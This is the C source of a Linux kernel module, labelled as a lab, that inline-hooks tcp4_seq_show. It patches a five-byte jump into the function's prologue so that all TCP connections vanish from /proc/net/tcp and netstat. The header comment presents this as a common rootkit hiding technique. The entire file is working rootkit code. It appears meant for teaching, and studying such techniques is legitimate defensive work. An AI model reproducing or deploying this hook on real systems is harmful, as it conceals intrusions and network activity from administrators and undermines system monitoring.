// SPDX-License-Identifier: GPL-2.0-only
/*
 * evil-inline - a jump of five bytes at the start of tcp4_seq_show, as many
 * rootkits hide connections from /proc/net/tcp: netstat then shows none.
 */
#include "evil.h"

#define JUMP_LEN 5

static u8 *function;
static u8 was[JUMP_LEN];

static int evil_show(void *seq, void *v)
{
	return 0;
}

static int __init evil_init(void)
{
	u8 jump[JUMP_LEN] = { 0xe9 };
	s32 distance;

	function = (u8 *)evil_symbol("tcp4_seq_show");
	if (!function)
		return -ENOENT;
	distance = (s32)((unsigned long)evil_show -
			 (unsigned long)function - JUMP_LEN);
	memcpy(jump + 1, &distance, sizeof(distance));
	memcpy(was, function, JUMP_LEN);
	return evil_write(function, jump, JUMP_LEN);
}

static void __exit evil_exit(void)
{
	WARN_ON(evil_write(function, was, JUMP_LEN));
}

module_init(evil_init);
module_exit(evil_exit);
MODULE_DESCRIPTION("lab: a jump in a function's prologue");
MODULE_LICENSE("GPL");
